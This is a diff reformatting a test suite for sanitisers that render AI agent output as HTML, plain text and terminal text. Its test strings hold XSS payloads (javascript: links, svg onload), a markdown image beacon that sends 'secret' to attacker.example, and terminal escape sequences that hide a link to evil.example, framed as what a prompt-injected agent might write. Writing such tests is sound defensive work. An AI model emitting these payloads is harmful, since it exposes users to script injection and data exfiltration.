@@ -3,7 +3,9 @@ import { markdownHtml, plainText, terminalText } from "./safe";
 // What a prompt-injected agent writes, and what must come of it.
 describe("agent output is rendered safely", () => {
   it("keeps http(s) and mailto links, drops script and data links", () => {
-    const html = markdownHtml("[docs](https://example.org/x) [mail](mailto:a@b.c) [x](javascript:alert(1)) [y](data:text/html,hi) [z](JAVASCRIPT:alert(1))");
+    const html = markdownHtml(
+      "[docs](https://example.org/x) [mail](mailto:a@b.c) [x](javascript:alert(1)) [y](data:text/html,hi) [z](JAVASCRIPT:alert(1))",
+    );
     const div = document.createElement("div");
     div.innerHTML = html;
     const hrefs = [...div.querySelectorAll("a")].map((a) => a.getAttribute("href"));
@@ -12,18 +14,24 @@ describe("agent output is rendered safely", () => {
   });
 
   it("loads no remote image, even as a link's content or an autolink", () => {
-    const html = markdownHtml("![](https://attacker.example/?d=secret) [![x](https://a.example/i.png)](https://a.example)");
+    const html = markdownHtml(
+      "![](https://attacker.example/?d=secret) [![x](https://a.example/i.png)](https://a.example)",
+    );
     expect(html).not.toContain("<img");
-    expect(html).not.toContain("attacker.example/?d=secret\"");
+    expect(html).not.toContain('attacker.example/?d=secret"');
   });
 
   it("drops raw HTML that marked passes through", () => {
-    const html = markdownHtml('<a href="javascript:alert(1)">x</a><form action="https://a.example"><button>go</button></form><svg onload=alert(1)></svg>');
+    const html = markdownHtml(
+      '<a href="javascript:alert(1)">x</a><form action="https://a.example"><button>go</button></form><svg onload=alert(1)></svg>',
+    );
     expect(html).not.toMatch(/javascript:|<form|<button|<svg|onload/i);
   });
 
   it("keeps terminal colours and strips links, titles and other escapes", () => {
-    const out = terminalText("\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b]0;title\x07done\x1b[2J\x1bPq#0;2\x1b\\");
+    const out = terminalText(
+      "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\ \x1b]0;title\x07done\x1b[2J\x1bPq#0;2\x1b\\",
+    );
     expect(out).toBe("\x1b[31mred\x1b[0m click done");
   });
 });
